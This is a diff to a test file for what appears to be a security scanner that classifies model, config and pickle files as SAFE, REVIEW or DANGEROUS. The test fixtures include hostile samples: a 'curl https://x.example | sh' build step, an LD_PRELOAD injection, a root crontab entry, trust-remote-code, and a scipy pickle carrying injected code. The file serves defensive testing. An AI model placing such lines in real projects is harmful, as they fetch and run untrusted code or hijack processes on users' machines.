@@ -34,6 +34,14 @@ RUNS = {
     "packages in a list": ("conda.yaml", "dependencies:\n- pip:\n  - --index-url https://packages.example\n"),
     "model outside": ("Modelfile", "FROM ../../other.gguf\n"),
     "registered by somebody": ("config.cfg", '[a]\n@architectures = "somebody.Net.v1"\n'),
+    "cmake": ("CMakeLists.txt", "cmake_minimum_required(VERSION 3)\nexecute_process(COMMAND x)\n"),
+    "go": ("a.go", 'package main\nimport "os/exec"\n'),
+    "table of jobs": ("crontab", "*/5 * * * * root x\n"),
+    "infrastructure": ("main.tf", 'resource "null_resource" "x" {\n}\n'),
+    "library put before": (".env", "A=1\nLD_PRELOAD=/tmp/x.so\n"),
+    "commands in a list": ("cog.yaml", "build:\n  run:\n  - ls\n  - curl https://x.example | sh\n"),
+    "index of pip": ("pip.conf", "[global]\nindex-url = https://packages.example\n"),
+    "code that is trusted": ("serve.yaml", "model: x\ntrust-remote-code: true\n"),
     "unknown tag": ("a.yaml", "a: !ruby/object:Gem::Installer {}\n"),
     "hooks of a package": ("package.json", '{"scripts": {"postinstall": "node x.js"}}'),
     "nested a thousand times": ("a.json", "[" * 5_000),
@@ -103,3 +111,33 @@ def test_a_pickle_that_is_kept_in_a_pickle_counts_only_if_it_does_something():
     assert judged(pickle.dumps({"state": pickle.dumps([1, "x"])})) == "SAFE"
     assert judged(pickle.dumps({"state": EVIL})) == "DANGEROUS"
     assert judged(base64.b64encode(pickle.dumps(list(range(50))))) == "SAFE"
+
+
+def test_a_distribution_of_scipys_runs_the_words_of_its_state():
+    def of(template):
+        body = b"\x8c\x13_parse_arg_templateX" + len(template).to_bytes(4, "little") + template
+        return b"\x80\x04\x8c\x1escipy.stats._continuous_distns\x8c\x08norm_gen\x93)\x81}" + body + b"sb."
+
+    assert judged(of(b"\ndef _parse_args(self, loc=0, scale=1):\n    return (), loc, scale\n")) == "REVIEW"
+    assert judged(of(b"import os")) == "DANGEROUS"
+    assert judged(of(b"def _parse_args(self, loc=0):\n    return (print(1)), loc\n")) == "DANGEROUS"
+
+
+@pytest.mark.parametrize(
+    "words",
+    [
+        "[Unit]\n" + "\n" * 200_000,
+        "FROM x\n" + "\n" * 200_000,
+        "[core]\n" + "\n" * 200_000,
+        "#!/bin/sh\n" + "curl " * 200_000,
+        "<html>" + "<script>" * 100_000,
+        "# x\n" + "<script " * 100_000,
+        "\n" * 200_000 + "=",
+        "# \n" * 100_000,
+        "/**/" * 50_000,
+        "a = " + "b " * 200_000,
+    ],
+    ids=range(10),
+)
+def test_no_text_is_looked_at_again_and_again(words):
+    assert judged({"README.md": words.encode()}) in {"SAFE", "REVIEW"}
